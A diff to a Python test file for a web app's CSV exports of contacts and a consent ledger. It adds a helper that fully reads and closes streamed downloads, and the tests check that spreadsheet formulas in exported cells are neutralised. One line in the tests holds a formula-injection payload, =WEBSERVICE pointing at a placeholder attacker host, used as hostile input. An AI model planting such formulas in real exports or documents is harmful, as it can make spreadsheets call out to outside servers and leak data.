@@ -26,6 +26,14 @@ def _rows(body: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(body, newline="")))
 
 
+def _download(client, url: str):
+    """GET a streamed download to the end and close it, as a WSGI server does (ending the request)."""
+    response = client.get(url)
+    response.get_data()
+    response.close()
+    return response
+
+
 def _assert_neutralised(row: dict[str, str]) -> None:
     for name, value in HOSTILE.items():
         assert row[name] == "'" + value, name
@@ -45,7 +53,7 @@ def test_the_contacts_csv_has_the_cli_columns_and_neutralises_formulas(
     make_contact(db_session, clock, email="eve@example.com", **HOSTILE)
     make_contact(db_session, clock, first_name="Ada", last_name="Lovelace")
     db_session.commit()
-    response = admin_client.get("/exports/contacts.csv")
+    response = _download(admin_client, "/exports/contacts.csv")
     assert response.status_code == 200 and response.mimetype == "text/csv"
     assert response.headers["Content-Disposition"].startswith('attachment; filename="contacts-')
     body = response.get_data(as_text=True)
@@ -79,7 +87,7 @@ def test_the_ledger_csv_is_for_admins_and_neutralises_formulas(
             "consent_evidence": "=WEBSERVICE(\"http://evil.example\")"}
     assert post(admin_client, f"/contacts/{contact.id}/edit", form).status_code == 303
 
-    response = admin_client.get("/exports/consent-ledger.csv")
+    response = _download(admin_client, "/exports/consent-ledger.csv")
     assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
     rows = _rows(response.get_data(as_text=True))
     assert [(r["channel"], r["old_status"], r["new_status"], r["source"], r["actor"]) for r in rows] == [
